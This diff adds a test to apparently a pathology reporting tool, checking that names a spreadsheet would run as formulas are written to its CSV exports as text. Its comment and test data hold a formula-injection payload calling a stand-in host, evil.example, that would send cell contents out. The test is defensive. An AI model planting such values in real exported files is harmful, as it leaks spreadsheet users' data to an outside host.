@@ -787,3 +787,24 @@ def test_a_report_made_while_a_run_writes_the_results_says_so(tmp_path, caplog, 
         assert f"<b>A run was going on.</b> pdl1 run was writing these results ({who})" in page
     else:
         assert said == [] and "A run was going on" not in page
+
+
+def test_names_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path):
+    # helper-129: an entry renamed '=HYPERLINK("http://evil.example/?"&A1,"click")' went verbatim into report.csv,
+    # targets.csv and review_queue.csv, where a spreadsheet runs it; an annotation's name took the same way.
+    from bridge.review_queue import write_review_queue
+
+    project = _tma_project(tmp_path, [_core("@SUM(1)", tps_percent=5.0, tps_category="1-49%", tumour_cells=120)])
+    qpproj = project / "project.qpproj"
+    named = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    raw = json.loads(qpproj.read_text())
+    raw["images"][0]["imageName"] = named
+    qpproj.write_text(json.dumps(raw))
+    _, csv_path = write_report(project)
+    (row,) = csv.DictReader(csv_path.open(encoding="utf-8"))
+    assert row["image"] == "'" + named and row["tps_percent"] == "12.5"
+    (target,) = csv.DictReader((csv_path.parent / "targets.csv").open(encoding="utf-8"))
+    assert target["target"] == "'@SUM(1)" and target["tps_percent"] == "5.0"
+    queue = write_review_queue(project, qupath="never")
+    images = {r["image"] for r in csv.DictReader(queue.csv_path.open(encoding="utf-8"))}
+    assert images == {"'" + named}
